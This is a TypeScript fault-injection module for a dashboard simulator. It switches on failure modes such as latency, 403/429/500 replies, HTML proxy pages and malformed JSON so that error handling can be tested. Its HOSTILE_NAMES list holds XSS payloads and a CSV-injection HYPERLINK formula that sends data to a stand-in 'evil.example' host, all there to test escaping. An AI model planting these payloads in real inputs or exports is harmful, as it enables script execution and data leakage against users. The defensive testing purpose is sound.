// Talkover SIMULATOR (demo mode and tests only): switchable failure modes.
// Each mode imitates something a real upstream (or the proxy in front of it) does, so the
// dashboard's error paths can be exercised on demand instead of waiting for an outage.

import { z } from 'zod';
import { flatError, htmlReply, invalidApiKey, jsonReply, nestedError, type Reply } from './responses';

// `times`: apply to that many API requests, then revert to `none`. `path`: only to requests for
// that API path (after /api/v1, e.g. `/callback-agents`; a trailing `*` matches a prefix), so one
// endpoint can fail while the others work.
const times = z.number().int().positive().max(1_000_000).optional();
const path = z
  .string()
  .regex(/^\/[\w\-/{}.*]{0,200}$/)
  .optional();

export const faultSchema = z.discriminatedUnion('mode', [
  z.strictObject({ mode: z.literal('none'), times, path }),
  z.strictObject({ mode: z.literal('latency'), ms: z.number().int().min(0).max(120_000), times, path }),
  z.strictObject({ mode: z.literal('unauthorized'), times, path }),
  z.strictObject({ mode: z.literal('forbidden'), times, path }),
  z.strictObject({
    mode: z.literal('rate-limited'),
    retryAfterSeconds: z.number().int().min(0).max(86_400),
    times,
    path,
  }),
  z.strictObject({ mode: z.literal('server-error'), times, path }),
  z.strictObject({ mode: z.literal('unavailable'), times, path }),
  z.strictObject({ mode: z.literal('hang'), times, path }),
  z.strictObject({ mode: z.literal('html'), times, path }),
  z.strictObject({ mode: z.literal('wrong-shape'), times, path }),
  z.strictObject({ mode: z.literal('success-false'), times, path }),
  z.strictObject({ mode: z.literal('hostile-names'), times, path }),
]);

export type Fault = z.infer<typeof faultSchema>;

/** Whether a fault applies to a request for `apiPath` (the path after /api/v1). */
export function faultApplies(fault: Fault, apiPath: string): boolean {
  if (fault.mode === 'none' || fault.path === undefined) return true;
  return fault.path.endsWith('*') ? apiPath.startsWith(fault.path.slice(0, -1)) : apiPath === fault.path;
}
export type FaultMode = Fault['mode'];

/** Names typed by hostile or careless users; one per source agent, in SOURCE_AGENTS order. */
export const HOSTILE_NAMES: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"quotes" & ampersands \'n\' <b>tags</b>',
  `Nome muito longo ${'x'.repeat(283)}`,
  // A spreadsheet formula: a CSV export must neutralise it (OWASP CSV injection).
  '=HYPERLINK("https://evil.example/?leak=","javascript:alert(1)")',
];

/** What a fault does to one API request. */
export type FaultEffect = { kind: 'pass'; delayMs: number; hostileNames: boolean } | { kind: 'reply'; reply: Reply } | { kind: 'hang' };

const PROXY_PAGE =
  '<html><head><title>503 Service Temporarily Unavailable</title></head>' +
  '<body><center><h1>503 Service Temporarily Unavailable</h1></center><hr><center>nginx</center></body></html>';

// What a captive portal or a misrouted base URL serves with a cheerful 200.
const LOGIN_PAGE = '<html><body><h1>Talkover</h1><p>Sign in to continue…</p></body></html>';

// Plausible-looking JSON that breaks the contract: negative and string counts, missing fields,
// and an object where /callback-agents expects an array.
const WRONG_SHAPE = {
  success: true,
  data: {
    period: { start: 'yesterday' },
    total_callbacks_received: -12,
    callbacks_answered: '7',
    callbacks_by_source_agent: [{ source_agent_id: 'src-vendas', count: -3 }, { name: null }],
  },
};

export function toFaultEffect(fault: Fault, nowMs: number): FaultEffect {
  switch (fault.mode) {
    case 'none':
      return { kind: 'pass', delayMs: 0, hostileNames: false };
    case 'latency':
      return { kind: 'pass', delayMs: fault.ms, hostileNames: false };
    case 'hostile-names':
      return { kind: 'pass', delayMs: 0, hostileNames: true };
    case 'hang':
      return { kind: 'hang' };
    case 'unauthorized':
      return { kind: 'reply', reply: invalidApiKey() };
    case 'forbidden':
      return {
        kind: 'reply',
        reply: nestedError(403, 'FORBIDDEN', 'This API key is not allowed to access this resource'),
      };
    case 'rate-limited': {
      const reply = nestedError(429, 'RATE_LIMIT_EXCEEDED', 'Too many requests, please retry later');
      const headers = {
        'Retry-After': String(fault.retryAfterSeconds),
        'X-RateLimit-Remaining': '0',
        'X-RateLimit-Reset': String(Math.ceil(nowMs / 1000) + fault.retryAfterSeconds),
      };
      return { kind: 'reply', reply: { ...reply, headers } };
    }
    case 'server-error':
      return { kind: 'reply', reply: flatError(500, 'INTERNAL_SERVER_ERROR', 'An unexpected error occurred') };
    case 'unavailable':
      return { kind: 'reply', reply: htmlReply(503, PROXY_PAGE, true) };
    case 'html':
      return { kind: 'reply', reply: htmlReply(200, LOGIN_PAGE, true) };
    case 'wrong-shape':
      return { kind: 'reply', reply: jsonReply(200, WRONG_SHAPE) };
    case 'success-false':
      return {
        kind: 'reply',
        reply: jsonReply(200, {
          success: false,
          error: { code: 'STATS_UNAVAILABLE', message: 'Statistics are temporarily unavailable' },
        }),
      };
  }
}
